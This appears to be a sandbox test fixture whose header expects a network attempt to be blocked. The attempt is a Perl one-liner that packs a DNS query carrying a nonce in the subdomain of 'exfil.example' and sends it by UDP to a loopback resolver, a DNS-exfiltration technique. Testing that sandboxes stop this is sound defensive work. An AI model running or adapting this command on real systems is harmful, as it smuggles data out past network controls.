# class: network
# observe: fixture
# expect: blocked
# control: sandbox
# reason: a DNS query for a name that carries data, sent to a resolver on the host's loopback; the sandbox can reach no resolver
attempt perl -MIO::Socket::INET -e '
my ($name, $port) = @ARGV;
my $q = pack("nnnnnn", 0x5e1f, 0x0100, 1, 0, 0, 0);
$q .= join("", map { chr(length) . $_ } split /\./, $name) . "\0" . pack("nn", 1, 1);
my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => $port, Proto => "udp") or die "socket: $!\n";
defined $s->send($q) or die "send: $!\n";
print "sent a query for $name\n";' "$nonce.exfil.example" "$dnsport"
